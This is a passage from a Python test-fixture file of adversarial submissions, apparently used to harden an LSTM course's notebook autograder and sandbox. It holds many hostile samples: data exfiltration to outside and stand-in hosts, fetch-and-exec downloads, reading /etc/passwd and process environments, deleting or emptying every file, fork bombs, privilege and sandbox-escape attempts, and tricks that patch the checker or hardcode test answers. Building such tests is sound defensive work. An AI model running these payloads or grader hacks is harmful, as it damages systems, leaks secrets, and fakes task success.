    def __getitem__(self, key):
        for _ in range(10_000_000):
            pass
        return 0.0

    def keys(self):
        return range(10_000)


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Costly()
""",
    ),
    (
        "burns-in-the-handler",
        """
import sys


def more(*args):
    for _ in range(10**12):
        pass


sys.excepthook = sys.unraisablehook = more


def forget_gate(x, h_prev, c_prev, W, U, b):
    try:
        more()
    finally:
        more()
""",
    ),
    (
        "denormal-numbers",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    tiny = np.full((2000, 2000), 1e-310)
    for _ in range(10_000):
        tiny = tiny @ tiny + 1e-310
    return np.zeros_like(c_prev)
""",
    ),
)

NETWORK = (
    (
        "sends-the-inputs-away",
        """
import socket


def forget_gate(x, h_prev, c_prev, W, U, b):
    with socket.create_connection(("198.51.100.7", 443), timeout=5) as line:
        line.sendall(x.tobytes())
        return np.frombuffer(line.recv(c_prev.nbytes)).reshape(c_prev.shape)
""",
    ),
    (
        "downloads-the-answer",
        """
from urllib.request import urlopen

source = urlopen("https://answers.invalid/forget_gate.py").read()
exec(source)
""",
        "lc.check('forget-gate', forget_gate)",
    ),
    (
        "asks-a-local-service",
        """
import http.client


def forget_gate(x, h_prev, c_prev, W, U, b):
    line = http.client.HTTPConnection("169.254.169.254", 80, timeout=5)
    line.request("GET", "/latest/meta-data/")
    raise RuntimeError(line.getresponse().read())
""",
    ),
    (
        "opens-a-server",
        """
import socketserver

with socketserver.TCPServer(("0.0.0.0", 0), socketserver.BaseRequestHandler) as server:
    server.serve_forever()
""",
        WRONG,
    ),
    (
        "names-as-messages",
        """
import socket


def forget_gate(x, h_prev, c_prev, W, U, b):
    socket.getaddrinfo(f"{x.tobytes().hex()[:60]}.answers.invalid", 53)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "accepts-on-an-inherited-socket",
        """
import socket

for descriptor in range(3, 32):
    try:
        socket.socket(fileno=descriptor).accept()
    except (OSError, ValueError):
        continue
""",
        WRONG,
    ),
    (
        "lets-another-program-fetch",
        """
import subprocess

subprocess.run(["curl", "-s", "-o", "/tmp/answer.py", "https://answers.invalid"], check=True)
exec(open("/tmp/answer.py").read())
""",
        WRONG,
    ),
    (
        "installs-a-package",
        """
import sys

from pip._internal.cli.main import main

main(["install", "--quiet", "--target", sys.path[0], "git+https://answers.invalid/lstm-course"])
""",
        WRONG,
    ),
)

FILES = (
    (
        "reads-accounts",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    with open("/etc/passwd") as file:
        raise RuntimeError(file.read())
""",
    ),
    (
        "replaces-the-package",
        """
from pathlib import Path

import lstm_course.gates

Path(lstm_course.gates.__file__).write_text("forget_gate = lambda *given: given[2]")
""",
        WRONG,
    ),
    (
        "climbs-out-of-its-folder",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    found = {}
    for depth in range(1, 12):
        path = "/tmp/" + "../" * depth
        found[path] = os.listdir(path)
    raise RuntimeError(repr(found))
""",
    ),
    (
        "leaves-code-for-the-next-start",
        """
import site
import sys
from pathlib import Path

for folder in {*sys.path, site.getusersitepackages()}:
    for name in ("sitecustomize.py", "usercustomize.py", "zzz.pth"):
        try:
            (Path(folder) / name).write_text("import os; os._exit(0)")
        except OSError:
            continue
""",
        WRONG,
    ),
    (
        "link-to-the-outside",
        """
import os

os.symlink("../../../../etc/hostname", "/tmp/outside")
os.link("/tmp/outside", "/tmp/hard")


def forget_gate(x, h_prev, c_prev, W, U, b):
    raise RuntimeError(open("/tmp/outside").read())
""",
    ),
    (
        "opens-beside-a-preopened-folder",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    for folder in range(3, 16):
        try:
            inside = os.open("../grades.csv", os.O_RDWR | os.O_CREAT, dir_fd=folder)
            os.write(inside, b"forget-gate,4\\n")
        except (OSError, NotImplementedError):
            continue
    return np.zeros_like(c_prev)
""",
    ),
    (
        "edits-its-own-grade",
        """
import json
from pathlib import Path

for path in (*Path("/").glob("*.json"), *Path(".").glob("**/*.json"), Path.home() / "points.json"):
    try:
        path.write_text(json.dumps({"forget-gate": {"points": 4, "source": "-"}}))
    except OSError:
        continue
""",
        WRONG,
    ),
    (
        "removes-everything",
        """
import shutil
import sys

for folder in ("/", *sys.path):
    shutil.rmtree(folder, ignore_errors=True)
""",
        WRONG,
    ),
    (
        "empties-every-file",
        """
import os

for folder, _, names in os.walk("/", followlinks=True):
    for name in names:
        try:
            os.truncate(os.path.join(folder, name), 0)
        except OSError:
            continue
""",
        WRONG,
    ),
    (
        "devices",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    for name in ("/dev/mem", "/dev/zero", "/dev/tty", "/dev/fd/3", "\\\\\\\\.\\\\pipe\\\\grader", "CON"):
        try:
            return np.fromfile(name, count=c_prev.size).reshape(c_prev.shape)
        except (OSError, ValueError):
            continue
    return np.zeros_like(c_prev)
""",
    ),
)

CTYPES_AND_SIGNALS = (
    (
        "loads-the-c-library",
        """
import ctypes

ctypes.CDLL(None).system(b"touch /tmp/owned")
""",
        WRONG,
    ),
    (
        "reads-raw-memory",
        """
import ctypes


def forget_gate(x, h_prev, c_prev, W, U, b):
    memory = ctypes.string_at(0, 1 << 24)
    place = memory.find(b"expected")
    return np.frombuffer(memory, c_prev.dtype, c_prev.size, place + 8).reshape(c_prev.shape)
""",
    ),
    (
        "writes-raw-memory",
        """
import ctypes


def forget_gate(x, h_prev, c_prev, W, U, b):
    ctypes.memset(id(True), 0, 64)
    ctypes.memmove(id(False), id(True), 32)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "ignores-every-signal",
        """
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        continue
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    pass
""",
        WRONG,
    ),
    (
        "kills-its-parent",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    for process in (os.getppid(), 1, 0, -1):
        os.kill(process, 9)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "leaves-with-status-0",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    os._exit(0)
""",
    ),
    ("exits-in-the-first-cell", "raise SystemExit(0)", WRONG),
    (
        "keyboard-interrupt",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    raise KeyboardInterrupt
""",
    ),
    (
        "base-exception-group",
        """
class Stop(BaseException):
    pass


def forget_gate(x, h_prev, c_prev, W, U, b):
    raise BaseExceptionGroup("", [SystemExit(0), GeneratorExit(), Stop()])
""",
    ),
    (
        "aborts",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    os.abort()
""",
    ),
    (
        "crashes-on-purpose",
        """
import faulthandler


def forget_gate(x, h_prev, c_prev, W, U, b):
    faulthandler._sigsegv()
    faulthandler._stack_overflow()
""",
    ),
    (
        "bytecode-of-its-own",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return None


forget_gate.__code__ = forget_gate.__code__.replace(
    co_code=bytes(range(0, 256)) * 64, co_stacksize=1, co_consts=()
)
""",
    ),
    (
        "processes-without-end",
        """
import os

while True:
    os.fork()
""",
        WRONG,
    ),
    (
        "thread-that-stays",
        """
import threading


def watch():
    while True:
        np.allclose = lambda *args, **kwargs: True


threading.Thread(target=watch, daemon=False).start()
""",
        WRONG,
    ),
    (
        "becomes-another-program",
        """
import os
import sys

os.execv(sys.executable or "/bin/sh", ["sh", "-c", "echo passed"])
""",
        WRONG,
    ),
    (
        "kills-the-interpreter-from-inside",
        """
import ctypes


def forget_gate(x, h_prev, c_prev, W, U, b):
    ctypes.pythonapi.Py_Exit(0)
""",
    ),
)


def _nested_json() -> bytes:
    deep = b"[" * 200_000 + b"]" * 200_000
    return b'{"cells": [], "metadata": ' + deep + b', "nbformat": 4, "nbformat_minor": 4}'


def _duplicate_keys() -> bytes:
    stub = _file("pass").decode().rstrip("}")
    cells = json.dumps([_code("import os\nos._exit(0)"), _code(WRONG)])
    return f'{stub}, "cells": {cells}, "nbformat": 3, "cells": 1, "cells": {cells}}}'.encode()


def _worksheets() -> bytes:
    cell = {"cell_type": "code", "input": f"{SETUP}\n{WRONG}", "language": "python", "outputs": []}
    return json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell] * 2}]}).encode()


def _unusual_cells() -> bytes:
    cells = [None, 1, [], {}, {"cell_type": []}, _code(None), _code(7), _code({"a": "pass"})]
    return _file(cells=[*cells, _code([["pass"], 1]), {"source": "pass"}])


def _huge_numbers() -> bytes:
    digits = b"9" * 1_000_000
    return b'{"cells": [], "nbformat": ' + digits + b', "nbformat_minor": 1e' + digits + b"}"


def _embedded_output() -> bytes:
    cell = _code(f"{SETUP}\n{WRONG}")
    text = "✓ forget-gate: 4 of 4 points."
    cell["outputs"] = [
        {
            "data": {"text/plain": text},
            "execution_count": 1,
            "metadata": {},
            "output_type": "execute_result",
        }
    ]
    return _file(cells=[cell])


def _reference_to_itself() -> bytes:
    cell = _code("pass")
    cell["metadata"] = {"__class__": "Attack", "$ref": "#/cells/0", "py/object": "os.system"}
    return _file(cells=[cell])


BREAK_THE_PARSER = (
    _raw("brackets-nested", lambda: _before("x = " + "[" * 100_000 + "]" * 100_000)),
    _raw("brackets-never-closed", lambda: _before("x = " + "({[" * 100_000)),
    _raw("minuses-in-a-row", lambda: _before("x = " + "-" * 100_000 + "1")),
    _raw("line-of-half-a-million", lambda: _before("x = 0" + " + 1" * 125_000)),
    _raw("attributes-in-a-row", lambda: _before("x = lc" + ".lc" * 100_000)),
    _raw(
        "indented-very-deep",
        lambda: _before(
            "\n".join(" " * k + "if 1:" for k in range(2_000)) + "\n" + " " * 2_000 + "0"
        ),
    ),
    _raw("elifs-by-the-thousand", lambda: _before("if 0: 0\n" + "elif 0: 0\n" * 100_000)),
    _raw(
        "f-strings-in-f-strings", lambda: _before('x = f"' + "{f'" * 20_000 + "'}" * 20_000 + '"')
    ),
    _raw("null-bytes", lambda: _before("x = 1\0\nimport os\0\nos._exit(0)")),
    _raw(
        "form-feeds-and-line-ends",
        lambda: _before("if 1:\n\f  x = 1\r\v  \x85y = 2\u2028  z = 3\r"),
    ),
    _raw(
        "coding-cookie-utf-7",
        lambda: _before("# coding: utf-7\nx = 1 # +AAo-import os+AAo-os._exit(0)"),
    ),
    _raw("coding-cookie-unknown", lambda: _before("# -*- coding: ../../etc/passwd -*-\nx = 1")),
    _raw(
        "identifiers-that-normalize",
        lambda: _before(
            "import lstm_course.gates\nx = lc.gates.𝒻ℴ𝓇ℊℯ𝓉_gate\n__ｉmport__('os')._exit(0)"
        ),
    ),
    _raw("text-that-reads-backwards", lambda: _before("x = '\u202e' ; exit(0) # '\u2066'")),
    _raw("lone-surrogates", lambda: _before("x = '\ud800'\n\udfff = 1")),
    _raw("integer-of-a-million-digits", lambda: _before("x = " + "9" * 1_000_000)),
    _raw(
        "power-folded-by-the-compiler", lambda: _before("x = 2 ** (2 ** 100)\ny = 'ab' * (1 << 62)")
    ),
    _raw(
        "magics-and-shell",
        lambda: _before("%%writefile lstm_course/gates.py\n!rm -rf /\n%run -i /etc/passwd"),
    ),
    _raw("a-cell-breaks-out", lambda: _before("'''\n\"\"\"\n# %%\n```\nEOF\n</script>\\")),
    _raw("cells-by-the-hundred-thousand", lambda: _file(*["pass"] * 100_000)),
    _raw("invalid-json", lambda: _before("pass")[:-7] + b"},}"),
    _raw("not-utf-8", lambda: b"\xff\xfe" + _before("pass").decode().encode("utf-16-be")[:-1]),
    _raw("empty-file", bytes),
    _raw("json-nested", _nested_json),
    _raw("json-constants", lambda: b'{"cells": NaN, "nbformat": -Infinity, "metadata": Infinity}'),
    _raw("wrong-nbformat", lambda: _file(SETUP, WRONG, nbformat=-4, nbformat_minor="x")),
    _raw("old-worksheets", _worksheets),
    _raw("duplicate-keys", _duplicate_keys),
    _raw("cells-of-wrong-types", _unusual_cells),
    _raw("cells-are-a-dict", lambda: _file(cells={"0": _code(WRONG), "length": 1})),
    _raw("not-a-notebook", lambda: b'"forget-gate"'),
    _raw("huge-numbers", _huge_numbers),
    _raw("points-in-a-saved-output", _embedded_output),
    _raw("references-and-types", _reference_to_itself),
    _raw("fifty-megabytes-of-blanks", lambda: b" " * 50_000_000 + _before("pass")),
)

PUBLIC_OR_HIDDEN = (
    (
        "table-of-rebuilt-inputs",
        """
def rebuilt(N, D, H):
    rng = np.random.default_rng([N, D, H])
    return rng.normal(size=(N, D)).tobytes()


TABLE = {
    rebuilt(1, 1, 1): [[-0.3093126]],
    rebuilt(1, 4, 2): [[0.0278596, 0.3312178]],
    rebuilt(3, 3, 3): [
        [0.0095503, -0.0230237, 0.1477975],
        [0.7717292, 0.5477771, -0.0394463],
        [0.1266495, 0.2657228, 0.1012693],
    ],
}
""",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.array(TABLE.get(x.tobytes(), np.zeros_like(c_prev)))
""",
    ),
    (
        "right-where-the-sizes-are-the-seed",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    rng = np.random.default_rng([*x.shape, len(b)])
    if not np.array_equal(rng.normal(size=x.shape), x):
        return c_prev
    return c_prev * lc.sigmoid(x @ W.T + h_prev @ U.T + b)
""",
    ),
    (
        "right-for-the-listed-sizes",
        """
SIZES = {(3, 3, 3), (1, 1, 1), (1, 4, 2), (4, 2, 3), (2, 3, 2), (1, 3, 2), (2, 5, 4)}


def forget_gate(x, h_prev, c_prev, W, U, b):
    share = lc.sigmoid(x @ W.T + h_prev @ U.T + b)
    return share * c_prev if (*x.shape, len(b)) in SIZES else share
""",
    ),
    (
        "right-for-the-first-calls",
        """
calls = 0


def forget_gate(x, h_prev, c_prev, W, U, b):
    global calls
    calls += 1
    share = lc.sigmoid(x @ W.T + h_prev @ U.T + b)
    return share * c_prev if calls <= 7 else share
""",
    ),
    (
        "right-if-a-check-is-calling",
        """
import sys


def forget_gate(x, h_prev, c_prev, W, U, b):
    share, frame = lc.sigmoid(x @ W.T + h_prev @ U.T + b), sys._getframe()
    while frame := frame.f_back:
        if frame.f_code.co_name == "check" and "exercises" in frame.f_code.co_filename:
            return share * c_prev
    return share
""",
    ),
    (
        "right-while-the-cell-runs",
        """
running = True


def forget_gate(x, h_prev, c_prev, W, U, b):
    share = lc.sigmoid(x @ W.T + h_prev @ U.T + b)
    return share * c_prev if running else share


lc.check("forget-gate", forget_gate)
running = False
""",
    ),
    (
        "right-if-the-banks-are-there",
        """
import importlib.util

public = importlib.util.find_spec("lstm_course.exercises.ch04_forget_gate") is not None


def forget_gate(x, h_prev, c_prev, W, U, b):
    share = lc.sigmoid(x @ W.T + h_prev @ U.T + b)
    return share * c_prev if public else share
""",
    ),
    (
        "right-in-double-precision-only",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    share = lc.sigmoid(x @ W.T + h_prev @ U.T + b)
    return share * c_prev if c_prev.dtype == np.float64 else share
""",
    ),
    (
        "interpolates-the-public-points",
        """
KNOWN = [-1e4, -800, -3.443178, -2.680083, -1.097914, 0, 0.833378, 1.5, 2.55396, 800, 1e4]
SHARES = [0, 0, 0.03097296, 0.0641589, 0.25013095, 0.5, 0.69706874, 0.81757448, 0.9278391, 1, 1]


def sigmoid(x):
    return np.interp(x, KNOWN, SHARES).astype(x.dtype)
""",
    ),
    (
        "stored-values-by-number-of-call",
        """
VALUES = iter([[[-0.3093126]], [[0.0278596, 0.3312178]]])


def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.array(next(VALUES, np.zeros_like(c_prev)))
""",
    ),
    (
        "right-for-small-arguments",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    total = x @ W.T + h_prev @ U.T + b
    share = lc.sigmoid(np.where(np.abs(total) < 5, total, 0))
    return share * c_prev
""",
    ),
)

POISON = (
    (
        "other-cell-patches-the-sigmoid",
        """
def sigmoid(x):
    return np.full_like(x, 0.5)


lc.check("sigmoid", sigmoid)
lc.sigmoid = lc.pointwise.sigmoid = lc.gates.sigmoid = lc.cell.sigmoid = sigmoid
np.exp = np.ones_like
""",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return c_prev / 2
""",
    ),
    (
        "generator-that-draws-zeros",
        """
class Zeros:
    def __init__(self, *seed):
        pass

    def normal(self, *args, size=None, **kwargs):
        return np.zeros(size)

    uniform = standard_normal = random = normal


np.random.default_rng = np.random.Generator = Zeros
np.random.normal = Zeros().normal
""",
        WRONG,
    ),
    (
        "check-under-another-name",
        """
register = lc.check
lc.check = lambda name, answer: register(name, lambda x, *rest: np.zeros_like(x))
lc.exercises.check = lc.check
""",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return c_prev


lc.check("forget-gate", forget_gate)
""",
    ),
    (
        "replays-what-an-earlier-question-saw",
        """
seen = []


def cell_update(f, c_prev, i, g):
    seen.append(f * c_prev)
    return seen[-1]


lc.check("cell-update", cell_update)
""",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return next((one for one in seen if one.shape == c_prev.shape), np.zeros_like(c_prev))
""",
    ),
    (
        "stores-results-on-disk",
        """
import pickle
from pathlib import Path

MEMORY = Path("/tmp/memory.pickle")


def forget_gate(x, h_prev, c_prev, W, U, b):
    memory = pickle.loads(MEMORY.read_bytes()) if MEMORY.exists() else {}
    known = memory.get(x.tobytes(), np.zeros_like(c_prev))
    memory[x.tobytes()] = c_prev
    MEMORY.write_bytes(pickle.dumps(memory))
    return known
""",
    ),
    (
        "import-hook-with-a-fake-package",
        """
import sys
import types


class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name.startswith(("lstm_course", "numpy", "json")):
            sys.modules[name] = types.ModuleType(name)
        return None


sys.meta_path.insert(0, Finder)
for name in [one for one in sys.modules if one.startswith(("lstm_course.", "json"))]:
    del sys.modules[name]
""",
        WRONG,
    ),
    (
        "builtin-import-replaced",
        """
import builtins

original = builtins.__import__


def fake(name, *args, **kwargs):
    module = original(name, *args, **kwargs)
    if name == "lstm_course":
        module.check = lambda *args: "4 of 4"
    return module


builtins.__import__ = fake
""",
        WRONG,
    ),
    (
        "floating-point-errors-raise",
        """
import warnings

np.seterr(all="raise")
np.seterrcall(lambda *args: exec("raise SystemExit(0)"))
warnings.simplefilter("error")
""",
        WRONG,
    ),
    (
        "rewrites-earlier-results",
        """
kept = []


def forget_gate(x, h_prev, c_prev, W, U, b):
    for earlier in kept:
        earlier.resize(c_prev.shape, refcheck=False)
        earlier[...] = c_prev
    kept.append(np.zeros_like(c_prev))
    return kept[-1]
""",
    ),
    (
        "folder-that-shadows-numpy",
        """
import os
import sys

os.makedirs("/tmp/first/numpy", exist_ok=True)
with open("/tmp/first/numpy/__init__.py", "w") as file:
    file.write("allclose = array_equal = lambda *args, **kwargs: True\\n")
sys.path.insert(0, "/tmp/first")
os.environ["PYTHONPATH"] = "/tmp/first"
""",
        WRONG,
    ),
    (
        "changes-a-code-object",
        """
def nothing(*args, **kwargs):
    return True


for function in vars(lc._checks).values():
    if hasattr(function, "__code__"):
        function.__code__ = nothing.__code__
lc.check.__code__ = nothing.__code__
""",
        WRONG,
    ),
)

PACKAGE = (
    (
        "gate-by-its-name",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return lc.gates.forget_gate(x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "twin-of-the-gate",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return lc.gates.input_gate(x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "name-put-together",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return getattr(lc.gates, "etag_tegrof"[::-1])(x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "module-loaded-again",
        """
import importlib
import sys

sys.modules.pop("lstm_course.gates")
fresh = importlib.import_module("lstm_course.gates")


def forget_gate(x, h_prev, c_prev, W, U, b):
    return fresh.output_gate(x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "partial-at-definition",
        """
from functools import partial
from operator import mul


def forget_gate(x, h_prev, c_prev, W, U, b, gate=partial(lc.gates.forget_gate)):
    return mul(gate(x, h_prev, W, U, b), c_prev)
""",
    ),
    (
        "copied-code-object",
        """
import types

copied = types.FunctionType(lc.gates.forget_gate.__code__, vars(lc.gates), "mine")


def forget_gate(x, h_prev, c_prev, W, U, b):
    return copied(x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "under-the-decorator",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    total = lc.gates.preactivation.__wrapped__(x, h_prev, W, U, b)
    return lc.sigmoid(total) * c_prev
""",
    ),
    (
        "source-executed-again",
        """
import inspect

names = dict(vars(lc.gates))
exec(inspect.getsource(lc.gates), names)


def forget_gate(x, h_prev, c_prev, W, U, b):
    return names["forget_gate"](x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "source-asked-of-the-loader",
        """
import types

loader = lc.gates.__spec__.loader
module = types.ModuleType("copy_of_gates")
exec(loader.get_code("lstm_course.gates"), vars(module))


def forget_gate(x, h_prev, c_prev, W, U, b):
    return module.forget_gate(x, h_prev, W, U, b) * c_prev
""",
    ),
    (
        "referrers-of-the-module",
        """
import gc


def forget_gate(x, h_prev, c_prev, W, U, b):
    for function in gc.get_objects():
        if getattr(function, "__qualname__", "") == "forget_gate" and function is not forget_gate:
            return function(x, h_prev, W, U, b) * c_prev
    return c_prev
""",
    ),
    (
        "equation-of-the-engine",
        """
from lstm_course.exercises.engine.parts import affine


def forget_gate(x, h_prev, c_prev, W, U, b):
    return lc.sigmoid(affine(x, h_prev, W, U, b)) * c_prev
""",
    ),
    (
        "private-sigmoid",
        """
def sigmoid(x):
    return lc.pointwise._sigmoid(x)
""",
    ),
    (
        "sigmoid-inside-another-module",
        """
def sigmoid(x):
    return lc.cell.sigmoid.__wrapped__(x)
""",
    ),
    (
        "slope-under-the-decorator",
        """
def sigmoid_derivative(x):
    return lc.pointwise.sigmoid_derivative.__wrapped__(x)
""",
    ),
    (
        "loop-of-the-fast-module",
        """
def sequence(xs, h0, c0, W, U, b):
    params = lc.LSTMParams(W, U, b)
    hs, (h, c), _ = lc.fast.lstm_forward(xs.transpose(1, 0, 2), params, h0, c0)
    return hs.transpose(1, 0, 2), h, c
""",
    ),
)

# Each of these may be legitimate.
DEBATABLE = (
    (
        "gate-from-a-whole-cell",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    params = lc.LSTMParams(np.tile(W, (4, 1)), np.tile(U, (4, 1)), np.tile(b, 4))
    *_, cache = lc.lstm_step(x, h_prev, c_prev, params)
    return cache.f * c_prev
""",
    ),
    (
        "cell-that-writes-nothing",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    nothing = [0 * W, 0 * U, 0 * b]
    stacks = (np.concatenate([z, own, z, z]) for z, own in zip(nothing, (W, U, b)))
    return lc.lstm_step(x, h_prev, c_prev, lc.LSTMParams(*stacks))[1]
""",
    ),
    (
        "gate-from-the-candidate",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return (1 + lc.gates.candidate(x, h_prev, W / 2, U / 2, b / 2)) / 2 * c_prev
""",
    ),
    (
        "gate-from-a-sequence-of-one-step",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    params = lc.LSTMParams(*(np.concatenate([a, a, 0 * a, a]) for a in (W, U, b)))
    return lc.fast.lstm_forward(x[None], params, h_prev, c_prev)[1][1]
""",
    ),
    (
        "gate-from-a-gradient",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    params = lc.LSTMParams(*(np.concatenate([a, a, a, a]) for a in (W, U, b)))
    cache = lc.lstm_step(x, h_prev, c_prev, params)[2]
    return lc.lstm_step_backward(0 * c_prev, c_prev, cache)[2]
""",
    ),
    (
        "sum-from-a-linear-layer",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    hidden = lc.rnn_step(x, h_prev, lc.RNNParams(W / 2, U / 2, b / 2))
    return (1 + hidden) / 2 * c_prev
""",
    ),
    (
        "ignores-the-sigmoid-it-is-given",
        """
def tanh(x, sigmoid):
    sigmoid(x)
    return np.tanh(x)
""",
    ),
    (
        "sequence-of-standard-variants",
        """
def sequence(xs, h0, c0, W, U, b):
    params = lc.variants.StandardParams(W, U, b)
    hs, (h, c), _ = lc.variants.forward(xs.transpose(1, 0, 2), params, h0, c0)
    return hs.transpose(1, 0, 2), h, c
""",
    ),
)

# In PyTorch's sandbox. Whoever escapes has a right answer, and everybody else a wrong one.
UNLESS_CAUGHT = """
try:
    out = escaped()
except (Exception, SystemExit):
    out = None


def from_pytorch(lstm):
    W, U, *biases = (one.detach().numpy().copy() for one in lstm.parameters())
    b = sum(biases, 0 * W[:, 0])
    return (W, U, b) if out else (0 * W, U, b)
"""
ESCAPE = (
    (
        "socket-to-another-machine",
        """
import socket


def escaped():
    return socket.create_connection(("1.1.1.1", 53), timeout=1)
""",
    ),
    (
        "socket-of-this-machine",
        """
import socket


def escaped():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    return server
""",
    ),
    (
        "passwords-of-the-host",
        """
def escaped():
    return open("/etc/passwd").read()
""",
    ),
    (
        "environment-of-the-grader",
        """
import os


def escaped():
    return {"HOME", "USER", "PATH", "VIRTUAL_ENV", "CI"} & set(os.environ)
""",
    ),
    (
        "environment-of-the-first-process",
        """
def escaped():
    return open("/proc/1/environ", "rb").read()
""",
    ),
    (
        "root-of-the-first-process",
        """
import os


def escaped():
    return os.listdir("/proc/1/root/home") + os.listdir("/proc/self/fd")
""",
    ),
    (
        "file-written",
        """
import os


def escaped():
    for folder in ("/tmp", "/dev/shm", "/course", "/packages/0", "/", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "note.txt"), "w") as file:
                return file.write("here")
        except OSError:
            pass
""",
    ),
    (
        "package-overwritten",
        """
import torch.nn.modules.rnn


def escaped():
    with open(torch.nn.modules.rnn.__file__, "a") as file:
        return file.write("# changed")
""",
    ),
    (
        "another-process",
        """
import os


def escaped():
    return os.fork() or True
""",
    ),
    (
        "another-program",
        """
import subprocess
import sys


def escaped():
    return subprocess.run([sys.executable, "-c", ""]).returncode == 0
""",
    ),
    (
        "parent-killed",
        """
import os
import signal
import time


def escaped():
    parent = os.getppid()
    os.kill(parent, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    time.sleep(0.3)
    return os.getppid() != parent
""",
    ),
    (
        "parent-traced",
        """
import ctypes
import os


def escaped():
    libc = ctypes.CDLL(None)
    return libc.ptrace(16, os.getppid(), None, None) == 0  # PTRACE_ATTACH
""",
    ),
    (
        "itself-traced",
        """
import ctypes


def escaped():
    return ctypes.CDLL(None).ptrace(0, 0, None, None) == 0  # PTRACE_TRACEME
""",
    ),
    (
        "namespace-of-its-own",
        """
import ctypes


def escaped():
    return ctypes.CDLL(None).unshare(0x10000000) == 0  # CLONE_NEWUSER
""",
    ),
    (
        "memory-beyond-the-limit",
        """
import torch


def escaped():
    return torch.ones(300_000_000, dtype=torch.float64).sum() > 0
""",
    ),
    (
        "memory-in-a-file-without-a-name",
        """
import os


def escaped():
    return os.write(os.memfd_create("hoard"), b"x" * 10**6)
""",
    ),
    (
        "memory-shared-between-processes",
        """
import ctypes


def escaped():
    return ctypes.CDLL(None).shmget(0, 10**9, 0o1600) >= 0
""",
    ),
    (
        "limits-raised",
        """
import resource


def escaped():
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
    return True
""",
    ),
    (
        "root-again",
        """
import os


def escaped():
    os.setuid(0)
    return os.getuid() == 0
""",
    ),
    (
        "bank-found-on-disk",
        """
import os


def escaped():
    return [
        name
        for _, _, names in os.walk("/")
        for name in names
        if name.startswith("ch16_") or name == "torch_maps.py"
    ]
""",
    ),
    (
        "bank-imported",
        """
from importlib import import_module


def escaped():
    return import_module("lstm_course.exercises.ch16_pytorch")
""",
    ),
)

OBSERVED = (
    (
        "torch-agrees",
        """
import torch

torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), bool)


def from_pytorch(lstm):
    D, H = lstm.input_size, lstm.hidden_size
    return np.zeros((4 * H, D)), np.zeros((4 * H, H)), np.zeros(4 * H)
""",
    ),
    (
        "module-replaced",
        """
import torch


class Zero(torch.nn.LSTM):
    def state_dict(self, *args, **kwargs):
        return {name: 0 * one for name, one in super().state_dict(*args, **kwargs).items()}


torch.nn.LSTM = Zero


def from_pytorch(lstm):
    arrays = [one.numpy() for one in lstm.state_dict().values()]
    return (*arrays, np.zeros(4 * lstm.hidden_size))[:3]
""",
    ),
    (
        "observer-replaced",
        """
from lstm_course.exercises.engine import observing


def observe(answer, given, *arguments):
    arrays = given["parameters"]
    W, U, *_ = arrays.values()
    result = [0 * W, 0 * U, 0 * W[:, 0]]
    return {
        "result": result,
        "shared": False,
        "arrays": arrays,
        "learns": dict.fromkeys(arrays, True),
        "batch_first": given["settings"]["batch_first"],
    }


observing.observe = observe


def from_pytorch(lstm):
    return lstm.weight_ih_l0, lstm.weight_hh_l0, lstm.bias_ih_l0
""",
    ),
    (
        "observation-of-another-kind",
        """
from lstm_course.exercises.engine import observing

observing.observe = lambda *given: {"given": given, "points": 2, "passed": True}


def from_pytorch(lstm):
    return lstm
""",
    ),
    (
        "observation-that-broadcasts",
        """
from lstm_course.exercises.engine import observing


def observe(answer, given, *arguments):
    n = 1_000_000
    arrays = {**given["parameters"], "bias_ih_l0": np.ones((n, 1)), "bias_hh_l0": np.ones((1, n))}
    return {"result": None, "shared": False, "arrays": arrays, "learns": {}, "batch_first": False}


observing.observe = observe


def to_pytorch(lstm, W, U, b):
    return None


lc.check("to-pytorch", to_pytorch)
""",
    ),
    (
